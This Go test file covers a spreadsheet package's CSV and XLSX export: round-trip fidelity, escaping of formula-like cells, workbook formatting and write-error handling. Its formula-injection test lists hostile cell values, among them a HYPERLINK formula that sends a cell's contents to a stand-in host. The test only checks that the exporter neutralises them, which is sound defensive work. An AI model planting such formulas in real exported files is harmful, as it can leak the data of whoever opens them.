package spreadsheet

import (
	"bytes"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

func written(t interface{ Fatal(...any) }, f Format, header []string, rows ...[]string) []byte {
	var b bytes.Buffer
	w, err := NewWriter(&b, f, ';', "People: all/some", header)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestWhatIsWrittenIsReadAgainAsItWas(t *testing.T) {
	t.Parallel()
	cells := rapid.OneOf(
		rapid.String(),
		rapid.StringMatching(`['=+\-@\t\r\n ＝＠"“,;|_x0-9A-F<>&]{0,12}`),
		rapid.SampledFrom([]string{
			"=1+1", "'=1+1", "''=1", "  =1", "' =1", "'", "''", "+33 6 12", "-", "@SUM(A1)", "\tx",
			"\rx", "\r\nx\n", "x\r", "＝1", "'a", "O'Neil",
			"_x0041_", "_x005F_x0041_", "_x0041_x0042_", "\ufeffx", `"`, `""`, "a\"b", " a ",
			"\u0085", "#N/A", "0012", "1E5", "31/12/2026", "\a", "sep=;",
		}),
	)
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.SliceOfN(cells, 1, 8).Draw(t, "cells")
		for i := range cell {
			cell[i] = strings.ReplaceAll(cell[i], "\x00", "") // which a text cannot hold
			if strings.ContainsRune(cell[i], '\ufffd') {
				cell[i] = "x"
			}
		}
		cell = slices.Insert(cell, 0, "first", "") // not an empty row, and no column of addresses
		cell[1] = cell[2]
		for _, f := range []Format{CSV, XLSX} {
			b := written(t, f, []string{"E-mail", "Nom"}, cell)
			records, err := all(b)
			if err != nil || len(records) != 2 {
				t.Fatalf("%s: %v, %q", f, err, b)
			}
			want := Record{Cells: slices.Clone(cell)}.TrimEnd().Cells
			got := records[1].TrimEnd().Cells
			if len(got) != len(want) {
				t.Fatalf("%s: %q, want %q", f, got, want)
			}
			for i := range got {
				// A workbook keeps nothing of a cell with spaces only: it looks empty, and it is
				// read as empty.
				blank := strings.TrimSpace(want[i]) == ""
				if got[i] != want[i] && !(f == XLSX && blank && got[i] == "") {
					t.Fatalf("%s: cell %d is %q, want %q", f, i, got[i], want[i])
				}
			}
		}
	})
}

func TestProtectAndRestoreAreInverses(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringMatching(`['=+\-@\t\r ＝a]{0,6}`).Draw(t, "cell")
		p := protectCell(s)
		if restoreCell(p) != s {
			t.Fatalf("%q → %q → %q", s, p, restoreCell(p))
		}
		if first := strings.TrimLeft(p, " "); first != "" &&
			strings.IndexAny(first, formulaSigns) == 0 {
			t.Fatalf("%q would be run", p)
		}
	})
}

// BAT-6: exports are safe to open in a spreadsheet.
func TestNoCellOfATextIsRunByASpreadsheet(t *testing.T) {
	t.Parallel()
	for _, evil := range []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "   +1",
		"＝1", `=HYPERLINK("http://x/"&A1)`} {
		b := string(written(t, CSV, []string{"Nom", "E-mail"}, []string{evil, evil}))
		line := strings.TrimPrefix(b, "\ufeffNom;E-mail\r\n")
		if !strings.HasPrefix(line, "'") && !strings.HasPrefix(line, `"'`) {
			t.Errorf("%q is written as %q", evil, line)
		}
	}
	if got := string(
		written(t, CSV, nil, []string{"a'b", "x=1", "12", "É"})); got != "\ufeffa'b;x=1;12;É\r\n" {
		t.Errorf("%q: harmless cells are changed", got)
	}
}

func TestAnotherProgramReadsOurWorkbook(t *testing.T) {
	t.Parallel()
	rows := [][]string{{"Lefèvre", "=1+1", "0012", "a & <b>\n\"c\"", " x "},
		{"", "x", strings.Repeat("é", 40_000)}}
	b := written(t, XLSX, []string{"Nom", "Formule", "Code", "Texte", "Espaces"}, rows...)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	if names := f.GetSheetList(); len(names) != 1 || names[0] != "People- all-some" {
		t.Errorf("%q", names)
	}
	got, err := f.GetRows(f.GetSheetName(0))
	if err != nil || len(got) != 3 || !slices.Equal(got[1], rows[0]) || len(got[2][2]) != 2*32_767 {
		t.Errorf("%.200q, %v", got, err)
	}
	if kind, err := f.GetCellType("People- all-some", "C2"); err != nil ||
		kind != excelize.CellTypeInlineString {
		t.Errorf("0012 is of type %v, %v", kind, err)
	}
	if formula, _ := f.GetCellFormula("People- all-some", "B2"); formula != "" {
		t.Errorf("a formula: %q", formula)
	}
	id, err := f.GetCellStyle("People- all-some", "A1")
	if err != nil {
		t.Fatal(err)
	}
	if style, err := f.GetStyle(id); err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("the header is not bold: %+v, %v", style, err)
	}
	if panes, err := f.GetPanes("People- all-some"); err != nil || !panes.Freeze ||
		panes.YSplit != 1 {
		t.Errorf("the header does not stay: %+v, %v", panes, err)
	}
	if width, _ := f.GetColWidth("People- all-some", "A"); width < 15 {
		t.Errorf("a column of width %v", width)
	}
}

// full fails to write behind some bytes, as a connection does that its reader left.
type full struct{ left int }

func (f *full) Write(p []byte) (int, error) {
	if f.left -= len(p); f.left < 0 {
		return 0, io.ErrClosedPipe
	}
	return len(p), nil
}

func TestAWriterTellsThatNobodyReads(t *testing.T) {
	t.Parallel()
	for _, f := range []Format{CSV, XLSX} {
		for _, left := range []int{0, 300, 3000} {
			w, err := NewWriter(&full{left}, f, ',', "x", []string{"E-mail"})
			for i := 0; i < 100_000 && err == nil; i++ {
				err = w.Write([]string{strings.Repeat("é", i%50)})
			}
			if err == nil {
				err = w.Close()
			}
			if err == nil {
				t.Errorf("%s, %d bytes: everything was written", f, left)
			}
		}
	}
}
